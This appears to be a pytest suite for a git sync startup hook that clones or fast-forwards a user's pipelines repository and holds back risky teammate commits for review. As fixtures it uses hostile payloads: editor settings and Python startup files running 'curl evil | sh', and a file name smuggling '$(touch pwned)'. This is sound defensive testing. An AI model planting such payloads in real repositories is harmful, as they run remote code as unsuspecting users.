"""The startup hook, case by case (docs/startup-hook.md), on real repositories and remotes.
Every test that leaves a clone alone also proves that nothing in it changed."""

from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from startup.sync import FileLock, Outcome, remote_key, repo_name, sync
from tests.support.git_http_server import GitHttpServer
from tests.support.gitrepos import Remote, git, snapshot, user_commit

ROOT = Path(__file__).resolve().parents[2]


def run_sync(remote: Remote, home: Path, **kwargs: object) -> Outcome:
    kwargs.setdefault("timeout", 20.0)
    return sync(
        kwargs.pop("url", remote.url),
        kwargs.pop("branch", "main"),
        kwargs.pop("dest", home / "pipelines"),
        user="alice",
        status_file=home / "sync-status.md",
        **kwargs,
    )


def run_cli(*args: str, env: dict[str, str] | None = None, **popen: object) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "startup.sync", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env=env or dict(os.environ),
        timeout=60,
        **popen,
    )


@pytest.fixture
def clone(remote: Remote, home: Path) -> Path:
    outcome = run_sync(remote, home)
    assert outcome.state == "cloned", outcome
    return home / "pipelines"


# 1. no folder yet ----------------------------------------------------------------------


def test_clones_when_the_folder_is_missing(remote: Remote, home: Path) -> None:
    outcome = run_sync(remote, home)

    clone = home / "pipelines"
    assert (outcome.state, outcome.ok) == ("cloned", True)
    assert git(clone, "rev-parse", "--abbrev-ref", "HEAD") == "main"
    assert git(clone, "rev-parse", "HEAD") == remote.head()
    assert (clone / "dags" / "train.py").read_text() == "print('train')\n"
    assert git(clone, "rev-parse", "--abbrev-ref", "main@{upstream}") == "origin/main"


def test_clones_the_requested_branch(remote: Remote, home: Path) -> None:
    dev = remote.commit({"dev.txt": "dev\n"}, "dev work", branch="dev")

    outcome = run_sync(remote, home, branch="dev")

    assert outcome.state == "cloned"
    assert git(home / "pipelines", "rev-parse", "--abbrev-ref", "HEAD") == "dev"
    assert git(home / "pipelines", "rev-parse", "HEAD") == dev


def test_clones_into_an_empty_folder(remote: Remote, home: Path) -> None:
    (home / "pipelines").mkdir()

    assert run_sync(remote, home).state == "cloned"
    assert (home / "pipelines" / "README.md").exists()


def test_shallow_clone_has_the_last_commits_and_can_push(remote: Remote, home: Path) -> None:
    for n in range(3):
        remote.commit({f"step{n}.py": f"{n}\n"}, f"step {n}")

    outcome = run_sync(remote, home, depth=1)

    clone = home / "pipelines"
    assert outcome.state == "cloned"
    assert git(clone, "rev-parse", "--is-shallow-repository") == "true"
    assert git(clone, "rev-list", "--count", "HEAD") == "1"
    mine = user_commit(clone, {"mine.py": "x = 1\n"}, "my change")
    git(clone, "push", "--quiet", "origin", "main")
    assert remote.head() == mine


# 2. clean and behind --------------------------------------------------------------------


def test_fast_forwards_a_clean_clone_that_is_behind(remote: Remote, home: Path, clone: Path) -> None:
    new = remote.commit({"dags/train.py": "print('train v2')\n"}, "v2")

    outcome = run_sync(remote, home)

    assert outcome.state == "updated"
    assert git(clone, "rev-parse", "HEAD") == new
    assert (clone / "dags" / "train.py").read_text() == "print('train v2')\n"


# 3. up to date ---------------------------------------------------------------------------


def test_up_to_date_clone_is_not_changed(remote: Remote, home: Path, clone: Path) -> None:
    before = snapshot(clone)
    mtimes = {p: p.stat().st_mtime_ns for p in clone.rglob("*") if ".git" not in p.parts}

    outcome = run_sync(remote, home)

    assert (outcome.state, outcome.ok) == ("up_to_date", True)
    assert snapshot(clone) == before
    assert {p: p.stat().st_mtime_ns for p in clone.rglob("*") if ".git" not in p.parts} == mtimes


# 4. edits the incoming commits do not touch -----------------------------------------------


def test_fast_forward_keeps_uncommitted_edits_to_other_files(remote: Remote, home: Path, clone: Path) -> None:
    (clone / "README.md").write_text("# my notes\n")
    git(clone, "add", "README.md")  # staged
    (clone / "dags" / "train.py").write_text("print('my experiment')\n")  # unstaged
    (clone / "scratch.py").write_text("draft\n")  # untracked
    new = remote.commit({"dags/evaluate.py": "print('evaluate')\n"}, "add evaluate")

    outcome = run_sync(remote, home)

    assert outcome.state == "updated"
    assert "edits were kept" in outcome.summary
    assert git(clone, "rev-parse", "HEAD") == new
    assert (clone / "dags" / "evaluate.py").exists()
    assert (clone / "README.md").read_text() == "# my notes\n"
    assert "README.md" in git(clone, "diff", "--cached", "--name-only")
    assert (clone / "dags" / "train.py").read_text() == "print('my experiment')\n"
    assert (clone / "scratch.py").read_text() == "draft\n"


# 5. edits the incoming commits do touch ----------------------------------------------------


def test_edits_to_files_the_remote_changed_leave_the_tree_untouched(
    remote: Remote, home: Path, clone: Path
) -> None:
    (clone / "dags" / "train.py").write_text("print('my experiment')\n")
    remote.commit({"dags/train.py": "print('train v2')\n"}, "v2")
    remote.commit({"other.py": "1\n"}, "other")
    before = snapshot(clone)

    outcome = run_sync(remote, home)

    assert (outcome.state, outcome.ok) == ("local_changes_in_the_way", True)
    assert "behind origin/main by 2 commit(s)" in outcome.summary
    assert outcome.files == ["dags/train.py"]
    assert snapshot(clone) == before
    assert git(clone, "rev-parse", "origin/main") == remote.head()  # fetched all the same
    status = (home / "sync-status.md").read_text()
    assert "dags/train.py" in status and "git stash" in status


@pytest.mark.parametrize(
    "path",
    [".vscode/settings.json", ".vscode/tasks.json", "team.code-workspace", ".envrc", ".devcontainer/x.json"],
)
def test_a_teammates_change_to_editor_config_waits_for_the_user(
    remote: Remote, home: Path, clone: Path, path: str
) -> None:
    """Workspace settings can set a terminal's environment: a teammate's commit must not do
    that in your server by itself. The hook fetches, changes nothing, and says how to look."""
    hostile = '{"terminal.integrated.env.linux": {"PROMPT_COMMAND": "curl evil | sh"}}\n'
    remote.commit({path: hostile, "dags/train.py": "print('train v2')\n"}, "settings")
    before = snapshot(clone)

    outcome = run_sync(remote, home)

    assert (outcome.state, outcome.ok) == ("review_editor_config", True)
    assert outcome.files == [path]
    assert snapshot(clone) == before
    assert git(clone, "rev-parse", "origin/main") == remote.head()  # fetched all the same
    status = (home / "sync-status.md").read_text()
    assert f"git diff HEAD origin/main -- {path}" in status and "git merge --ff-only origin/main" in status
    # once the user has looked and taken it, updates go on as before
    git(clone, "merge", "--quiet", "--ff-only", "origin/main")
    new = remote.commit({"dags/train.py": "print('train v3')\n"}, "v3")
    assert run_sync(remote, home).state == "updated" and git(clone, "rev-parse", "HEAD") == new


def test_a_link_named_vscode_waits_for_the_user_too(remote: Remote, home: Path, clone: Path) -> None:
    """`.vscode` as a link to a folder of settings would bring them in unnamed."""
    work = remote.teammate
    (work / "tools").mkdir()
    (work / "tools" / "settings.json").write_text('{"terminal.integrated.env.linux": {"X": "1"}}\n')
    (work / ".vscode").symlink_to("tools")
    git(work, "add", "-A")
    git(work, "commit", "--quiet", "-m", "link")
    git(work, "push", "--quiet", "origin", "HEAD:main")
    before = snapshot(clone)

    outcome = run_sync(remote, home)

    assert outcome.state == "review_editor_config" and ".vscode" in outcome.files
    assert snapshot(clone) == before and not (clone / ".vscode").exists()


def test_files_that_only_look_like_editor_config_are_updated(remote: Remote, home: Path, clone: Path) -> None:
    new = remote.commit({"docs/.vscode-notes.md": "x\n", "dags/.env.example.py": "y = 1\n"}, "look-alikes")

    assert run_sync(remote, home).state == "updated"
    assert git(clone, "rev-parse", "HEAD") == new


@pytest.mark.parametrize(
    "path",
    [
        "src/usercustomize.py",
        "src/skin_cancer/extra.pth",  # a .pth in a subfolder: a venv or --target there runs it
        ".venv/lib/python3.11/site-packages/evil.pth",
        "lib/sitecustomize/__init__.py",  # a package is imported as well as a module
        "src/_distutils_hack/__init__.py",  # setuptools' .pth imports it at every start
        "src/json.py",  # src/ comes before the standard library on PYTHONPATH
        "src/encodings/utf_8.py",
    ],
)
def test_a_teammates_change_to_what_python_runs_at_start_waits_for_the_user(
    remote: Remote, home: Path, clone: Path, path: str
) -> None:
    """The clone's src/ is first on the path of every `python` the user (or VS Code) starts:
    code Python imports by itself there would run as them, without their action."""
    remote.commit({path: "import os; os.system('curl evil | sh')\n", "dags/train.py": "print('v2')\n"}, "bob")
    before = snapshot(clone)

    outcome = run_sync(remote, home)

    assert (outcome.state, outcome.ok, outcome.files) == ("review_python_startup", True, [path])
    assert snapshot(clone) == before
    assert git(clone, "rev-parse", "origin/main") == remote.head()  # fetched all the same
    status = (home / "sync-status.md").read_text()
    assert "Python runs by itself when it starts" in status and f"Files to read first:\n- `{path}`" in status
    assert f"git diff HEAD origin/main -- {path}" in status and "git merge --ff-only origin/main" in status


def test_src_turned_into_a_link_waits_for_the_user(remote: Remote, home: Path, clone: Path) -> None:
    """`src` as a link to another folder would put that folder's modules (here a json.py)
    first on the path without naming them under src/."""
    remote.commit({"src/model.py": "x = 1\n"}, "src")
    assert run_sync(remote, home).state == "updated"
    work = remote.teammate
    git(work, "rm", "--quiet", "-r", "src")
    (work / "lib").mkdir()
    (work / "lib" / "json.py").write_text("import os; os.system('curl evil | sh')\n")
    (work / "src").symlink_to("lib")
    git(work, "add", "-A")
    git(work, "commit", "--quiet", "-m", "link")
    git(work, "push", "--quiet", "origin", "HEAD:main")
    before = snapshot(clone)

    outcome = run_sync(remote, home)

    assert outcome.state == "review_python_startup" and "src" in outcome.files
    assert snapshot(clone) == before and (clone / "src").is_dir() and not (clone / "src").is_symlink()


@pytest.mark.parametrize(
    "path",
    [
        "src/skin_cancer/model.py",
        "src/__init__.py",
        "src/json_tools.py",
        "src/skin_cancer/json.py",  # imported as skin_cancer.json, never as json
        "docs/sitecustomize.md",
        "notes/encodings.md",
        "dags/pipeline.py",
    ],
)
def test_ordinary_changes_to_code_are_still_updated(
    remote: Remote, home: Path, clone: Path, path: str
) -> None:
    new = remote.commit({path: "x = 1\n"}, "ordinary")

    assert run_sync(remote, home).state == "updated"
    assert git(clone, "rev-parse", "HEAD") == new


def test_editor_config_and_startup_code_at_once_are_both_named(
    remote: Remote, home: Path, clone: Path
) -> None:
    remote.commit({".vscode/settings.json": "{}\n", "src/sitecustomize.py": "x = 1\n"}, "both")

    outcome = run_sync(remote, home)

    assert outcome.files == [".vscode/settings.json", "src/sitecustomize.py"]
    assert "editor or shell act on" in outcome.summary and "Python runs by itself" in outcome.summary
    assert "-- .vscode/settings.json src/sitecustomize.py`" in outcome.advice


def test_file_names_in_the_advice_are_quoted_for_the_shell(remote: Remote, home: Path, clone: Path) -> None:
    """The names come from a teammate's commit, and the user pastes the command."""
    path = ".vscode/$(touch pwned).json"
    remote.commit({path: "{}\n"}, "a name that runs a command")

    outcome = run_sync(remote, home)

    command = re.search(r"`(git diff [^`]*)`", outcome.advice).group(1)
    shown = subprocess.run(["sh", "-c", command], cwd=clone, capture_output=True, text=True, check=True)
    assert not (clone / "pwned").exists()
    assert path in shown.stdout


@pytest.mark.parametrize("ignored", [False, True], ids=["untracked", "ignored"])
def test_local_file_where_the_remote_adds_one_is_kept(
    remote: Remote, home: Path, clone: Path, ignored: bool
) -> None:
    if ignored:  # git itself would overwrite an ignored file without a word
        (clone / ".git" / "info" / "exclude").write_text("results.csv\n")
    (clone / "results.csv").write_text("my precious results\n")
    remote.commit({"results.csv": "theirs\n"}, "add results")
    before = snapshot(clone)

    outcome = run_sync(remote, home)

    assert outcome.state == "local_changes_in_the_way"
    assert outcome.files == ["results.csv"]
    assert snapshot(clone) == before


# 6. local commits not yet pushed ------------------------------------------------------------


def test_local_commits_are_left_and_reported_as_ahead(remote: Remote, home: Path, clone: Path) -> None:
    user_commit(clone, {"a.py": "a\n"}, "a")
    user_commit(clone, {"b.py": "b\n"}, "b")
    before = snapshot(clone)

    outcome = run_sync(remote, home)

    assert (outcome.state, outcome.ok) == ("ahead", True)
    assert "ahead by 2" in outcome.summary
    assert snapshot(clone) == before


# 7. diverged --------------------------------------------------------------------------------


def test_diverged_clone_is_left_with_rebase_advice(remote: Remote, home: Path, clone: Path) -> None:
    user_commit(clone, {"mine.py": "mine\n"}, "mine")
    remote.commit({"theirs.py": "theirs\n"}, "theirs")
    before = snapshot(clone)

    outcome = run_sync(remote, home)

    assert (outcome.state, outcome.ok) == ("diverged", True)
    assert "1 local commit(s) not pushed, 1 new commit(s)" in outcome.summary
    assert "git pull --rebase" in outcome.advice
    assert snapshot(clone) == before


# 8. a folder that is not a repository --------------------------------------------------------


def test_non_empty_folder_that_is_no_repository_is_untouched(remote: Remote, home: Path) -> None:
    folder = home / "pipelines"
    (folder / "notes").mkdir(parents=True)
    (folder / "notes" / "ideas.txt").write_text("keep me\n")
    before = snapshot(folder)

    result = run_cli("--url", remote.url, "--timeout", "20")

    assert result.returncode == 1
    assert "not_a_repository" in result.stderr and "is not a git repository" in result.stderr
    assert snapshot(folder) == before
    assert "mv " in (home / "sync-status.md").read_text()


# 9. a clone of another remote -----------------------------------------------------------------


def test_clone_of_a_different_remote_is_untouched(remote: Remote, home: Path, tmp_path: Path) -> None:
    other = Remote(tmp_path / "elsewhere", name="pipelines")
    assert run_sync(other, home).state == "cloned"
    clone = home / "pipelines"
    remote.commit({"new.py": "1\n"}, "new")
    before = snapshot(clone)

    outcome = run_sync(remote, home)

    assert (outcome.state, outcome.ok) == ("other_remote", True)
    assert other.url in outcome.summary and remote.url in outcome.summary
    assert snapshot(clone) == before
    assert git(clone, "rev-parse", "origin/main") == other.head()  # not even fetched


def test_same_remote_spelled_differently_is_recognised() -> None:
    assert remote_key("https://GitHub.com/team/pipelines.git/") == remote_key(
        "https://github.com/team/pipelines"
    )
    assert remote_key("git@github.com:team/pipelines.git") == remote_key(
        "ssh://git@github.com/team/pipelines"
    )
    assert remote_key("file:///srv/git/pipelines.git") == remote_key("/srv/git/pipelines")
    assert remote_key("https://github.com/team/pipelines") != remote_key("https://github.com/team/other")
    assert repo_name("git@github.com:team/pipelines.git") == "pipelines"


# 10. remote unreachable ------------------------------------------------------------------------


def test_hanging_remote_ends_within_the_timeout_and_keeps_the_copy(
    remote: Remote, home: Path, clone: Path, silent_port: int
) -> None:
    (clone / "dags" / "train.py").write_text("edited\n")
    git(clone, "remote", "set-url", "origin", f"http://127.0.0.1:{silent_port}/pipelines.git")
    before = snapshot(clone)

    started = time.monotonic()
    outcome = run_sync(remote, home, url=f"http://127.0.0.1:{silent_port}/pipelines.git", timeout=2.0)
    took = time.monotonic() - started

    assert (outcome.state, outcome.ok) == ("unreachable", True)
    assert "within 2 s" in outcome.summary
    assert took < 4.0
    assert snapshot(clone) == before
    leftovers = subprocess.run(["pgrep", "-f", f"127.0.0.1:{silent_port}"], capture_output=True, text=True)
    assert leftovers.stdout == "", "git helpers outlived the timeout"


def test_unknown_host_without_a_copy_fails_within_the_timeout(home: Path) -> None:
    started = time.monotonic()
    result = run_cli("--url", "https://no-such-host.invalid/team/pipelines.git", "--timeout", "5")

    assert time.monotonic() - started < 10
    assert result.returncode == 1
    assert "unreachable" in result.stderr
    assert not (home / "pipelines").exists()


# 12. branch missing -------------------------------------------------------------------------------


def test_missing_branch_is_named_when_cloning(remote: Remote, home: Path) -> None:
    outcome = run_sync(remote, home, branch="no-such-branch")

    assert (outcome.state, outcome.ok) == ("branch_missing", False)
    assert "'no-such-branch'" in outcome.summary
    assert not (home / "pipelines").exists()
    assert not list(home.glob(".pipelines.partial-clone-*"))


def test_missing_branch_is_named_when_updating(remote: Remote, home: Path, clone: Path) -> None:
    before = snapshot(clone)

    outcome = run_sync(remote, home, branch="gone")

    assert (outcome.state, outcome.ok) == ("branch_missing", True)
    assert "'gone'" in outcome.summary and "MLOPS_IDE_REPO_BRANCH" in outcome.advice
    assert snapshot(clone) == before


# 13. two runs at the same time ----------------------------------------------------------------------


def test_concurrent_runs_leave_one_consistent_clone(remote: Remote, home: Path) -> None:
    args = [sys.executable, "-m", "startup.sync", "--url", remote.url, "--timeout", "30"]
    runs = [subprocess.Popen(args, cwd=ROOT, stderr=subprocess.PIPE, text=True) for _ in range(4)]
    results = [(run.wait(timeout=60), run.stderr.read()) for run in runs]

    assert [code for code, _ in results] == [0, 0, 0, 0]
    states = sorted(err.split(":")[1].split()[0] for _, err in results)
    assert states == ["cloned", "up_to_date", "up_to_date", "up_to_date"]
    git(home / "pipelines", "fsck", "--no-progress")
    assert not list(home.glob(".pipelines.partial-clone-*"))


def test_second_run_waits_for_the_first_then_stands_down(remote: Remote, home: Path, clone: Path) -> None:
    lock = FileLock(home / ".pipelines.sync-lock", deadline=time.monotonic() + 10)
    with lock:
        started = time.monotonic()
        outcome = run_sync(remote, home, timeout=1.0)
        waited = time.monotonic() - started

    assert (outcome.state, outcome.ok) == ("busy", False)
    assert 0.9 < waited < 3
    assert run_sync(remote, home).state == "up_to_date"  # once the lock is free, all is well


# 14. a run killed mid-clone ---------------------------------------------------------------------------


def test_run_killed_mid_clone_leaves_nothing_half_made(remote: Remote, home: Path, tmp_path: Path) -> None:
    with GitHttpServer(remote.path.parent, stall_upload_pack=30) as server:
        url = server.url("pipelines.git")
        run = subprocess.Popen(
            [sys.executable, "-m", "startup.sync", "--url", url, "--timeout", "60"],
            cwd=ROOT,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        deadline = time.monotonic() + 20
        while not list(home.glob(".pipelines.partial-clone-*")) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert list(home.glob(".pipelines.partial-clone-*")), "the clone never started"
        os.killpg(run.pid, signal.SIGKILL)
        run.wait()
        assert not (home / "pipelines").exists()

    outcome = run_sync(remote, home)

    assert outcome.state == "cloned"
    assert git(home / "pipelines", "rev-parse", "HEAD") == remote.head()
    assert not list(home.glob(".pipelines.partial-clone-*"))


# 15. another branch or a detached HEAD -------------------------------------------------------------------


def test_other_branch_is_not_switched_only_fetched(remote: Remote, home: Path, clone: Path) -> None:
    git(clone, "switch", "--quiet", "-c", "experiment")
    new = remote.commit({"new.py": "1\n"}, "new")
    before = snapshot(clone)

    outcome = run_sync(remote, home)

    assert (outcome.state, outcome.ok) == ("other_branch", True)
    assert "experiment" in outcome.summary
    assert snapshot(clone) == before
    assert git(clone, "rev-parse", "origin/main") == new


def test_detached_head_is_not_switched_only_fetched(remote: Remote, home: Path, clone: Path) -> None:
    git(clone, "checkout", "--quiet", "--detach", "HEAD")
    new = remote.commit({"new.py": "1\n"}, "new")
    before = snapshot(clone)

    outcome = run_sync(remote, home)

    assert (outcome.state, outcome.ok) == ("detached", True)
    assert snapshot(clone) == before
    assert git(clone, "rev-parse", "origin/main") == new


# the command line, the status file and the user's identity ----------------------------------------------


def test_cli_defaults_come_from_the_settings(remote: Remote, home: Path) -> None:
    env = dict(os.environ, MLOPS_IDE_REPO_URL=remote.url, MLOPS_IDE_REPO_BRANCH="main", JUPYTERHUB_USER="bob")

    result = run_cli(env=env)

    assert result.returncode == 0, result.stderr
    assert (home / "pipelines" / ".git").is_dir()
    line = result.stderr.strip().splitlines()[-1]
    assert line.startswith("mlops-ide sync: cloned in ")
    assert "# Pipeline repository: ready" in (home / "sync-status.md").read_text()
    assert git(home, "config", "--global", "user.name") == "bob"


def test_cli_without_a_url_says_which_setting_to_set(home: Path) -> None:
    result = run_cli()

    assert result.returncode == 2
    assert "set MLOPS_IDE_REPO_URL or pass --url" in result.stderr


def test_existing_git_identity_is_kept(remote: Remote, home: Path) -> None:
    git(home, "config", "--global", "user.name", "Alice Liddell")

    run_sync(remote, home)

    assert git(home, "config", "--global", "user.name") == "Alice Liddell"
    assert git(home, "config", "--global", "user.email") == "alice@localhost"


@pytest.mark.parametrize(
    "url",
    ["https://alice:s3cret@example.com/team/pipelines.git", "https://s3cret@example.com/team/pipelines.git"],
)
def test_token_inside_the_url_is_refused(home: Path, url: str) -> None:
    outcome = sync(
        url,
        "main",
        home / "p",
        status_file=home / "sync-status.md",
    )

    assert (outcome.state, outcome.ok) == ("bad_url", False)
    assert "MLOPS_IDE_GIT_TOKEN" in outcome.advice
    assert "s3cret" not in (home / "sync-status.md").read_text()
